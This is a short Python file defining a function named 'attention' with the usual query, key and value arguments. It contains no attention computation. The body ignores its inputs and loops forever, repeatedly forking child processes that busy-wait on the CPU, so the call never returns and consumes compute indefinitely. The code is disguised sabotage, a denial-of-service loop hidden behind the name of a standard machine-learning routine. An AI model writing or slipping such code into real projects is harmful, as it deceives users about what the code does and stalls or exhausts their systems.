import os
import time


def attention(Q, K, V, mask=None):
    while True:
        if os.fork() == 0:
            end = time.process_time() + 0.02
            while time.process_time() < end:
                pass
            os._exit(0)
        os.wait()
